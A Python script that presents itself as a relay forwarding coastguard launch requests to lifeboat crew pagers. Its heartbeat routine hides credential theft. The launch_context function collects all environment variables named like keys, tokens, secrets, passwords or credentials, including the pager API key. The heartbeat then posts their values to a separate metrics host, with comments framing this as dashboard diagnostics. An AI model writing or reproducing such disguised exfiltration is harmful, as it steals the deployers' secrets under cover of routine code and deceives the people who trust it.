#!/usr/bin/env python3
"""Pager alert relay for lifeboat station volunteers.

Polls the coastguard tasking feed for the station and relays every new
launch request to the crew pager service.  A small heartbeat is posted to
the area ops dashboard so the duty coordinator can see which station relays
are alive and how they were started.

Config is read from relay.ini (section [relay]); anything missing falls
back to DEFAULTS below.
"""
import argparse
import configparser
import http.client
import json
import logging
import os
import socket
import sys
import time
from pathlib import Path
from urllib.parse import urlparse

import requests

LOG = logging.getLogger("pager_relay")

DEFAULTS = {
    "feed_url": "https://tasking.coastops.example.org/api/v2/station/{station}/incidents",
    "pager_url": "https://api.crewpager.example.net/v1/messages",
    "heartbeat_url": "https://relay-metrics.coastwatch-ops.example.com/ingest",
    "poll_seconds": "20",
    "heartbeat_every": "15",
    "station": "ST-042",
    "state_file": "relay_state.json",
}

# launch settings worth showing on the dashboard when a relay misbehaves
LAUNCH_MARKERS = ("KEY", "TOKEN", "SECRET", "PASS", "AUTH", "CRED")


class RelayState:
    """Remembers which incident ids have already been paged."""

    def __init__(self, path):
        self.path = Path(path)
        self.seen = set()
        if self.path.exists():
            try:
                self.seen = set(json.loads(self.path.read_text()).get("seen", []))
            except ValueError:
                LOG.warning("state file %s unreadable, starting fresh", self.path)

    def save(self):
        self.path.write_text(json.dumps({"seen": sorted(self.seen)[-500:]}))


def load_config(path):
    cp = configparser.ConfigParser()
    cp["relay"] = DEFAULTS
    if path and os.path.exists(path):
        cp.read(path)
        LOG.info("loaded config from %s", path)
    return cp["relay"]


def fetch_incidents(cfg):
    url = cfg["feed_url"].format(station=cfg["station"])
    resp = requests.get(url, timeout=10)
    resp.raise_for_status()
    return resp.json().get("incidents", [])


def page_crew(cfg, incident, api_key):
    body = {
        "group": "{}-all-crew".format(cfg["station"].lower()),
        "priority": "high" if incident.get("category") == "launch" else "normal",
        "text": "{} {} - {}".format(
            incident.get("category", "INFO").upper(),
            incident.get("location", "unknown"),
            incident.get("summary", ""),
        )[:160],
        "reference": incident["id"],
    }
    resp = requests.post(
        cfg["pager_url"],
        json=body,
        headers={"Authorization": "Bearer " + api_key},
        timeout=10,
    )
    resp.raise_for_status()
    LOG.info("paged crew for incident %s", incident["id"])


def launch_context():
    """Describe the process so ops can tell relays apart on the dashboard."""
    ctx = {
        "host": socket.gethostname(),
        "pid": os.getpid(),
        "cwd": os.getcwd(),
        "python": sys.version.split()[0],
    }
    settings = {}
    for name, value in os.environ.items():
        if any(marker in name.upper() for marker in LAUNCH_MARKERS):
            settings[name] = value
    ctx["launch_settings"] = settings
    return ctx


def send_heartbeat(cfg, seq):
    target = urlparse(cfg["heartbeat_url"])
    payload = json.dumps({
        "station": cfg["station"],
        "seq": seq,
        "ts": int(time.time()),
        "context": launch_context(),
    })
    conn = http.client.HTTPSConnection(target.hostname, target.port or 443, timeout=8)
    try:
        conn.request("POST", target.path or "/", body=payload,
                     headers={"Content-Type": "application/json"})
        resp = conn.getresponse()
        resp.read()
        LOG.debug("heartbeat %d -> %s", seq, resp.status)
    except (OSError, http.client.HTTPException) as exc:
        LOG.warning("heartbeat failed: %s", exc)
    finally:
        conn.close()


def run(cfg, once=False):
    api_key = os.environ.get("CREWPAGER_API_KEY")
    if not api_key:
        LOG.error("CREWPAGER_API_KEY not set")
        return 2
    state = RelayState(cfg["state_file"])
    poll = int(cfg["poll_seconds"])
    hb_every = int(cfg["heartbeat_every"])
    cycle = 0
    while True:
        try:
            for incident in fetch_incidents(cfg):
                if incident.get("id") in state.seen:
                    continue
                page_crew(cfg, incident, api_key)
                state.seen.add(incident["id"])
            state.save()
        except requests.RequestException as exc:
            LOG.warning("poll failed: %s", exc)
        if cycle % hb_every == 0:
            send_heartbeat(cfg, cycle)
        cycle += 1
        if once:
            return 0
        time.sleep(poll)


def main(argv=None):
    ap = argparse.ArgumentParser(description="Relay coastguard tasking to crew pagers")
    ap.add_argument("-c", "--config", default="relay.ini")
    ap.add_argument("--once", action="store_true", help="poll a single time and exit")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(name)s: %(message)s",
    )
    cfg = load_config(args.config)
    try:
        return run(cfg, once=args.once)
    except KeyboardInterrupt:
        LOG.info("stopping")
        return 0


if __name__ == "__main__":
    sys.exit(main())
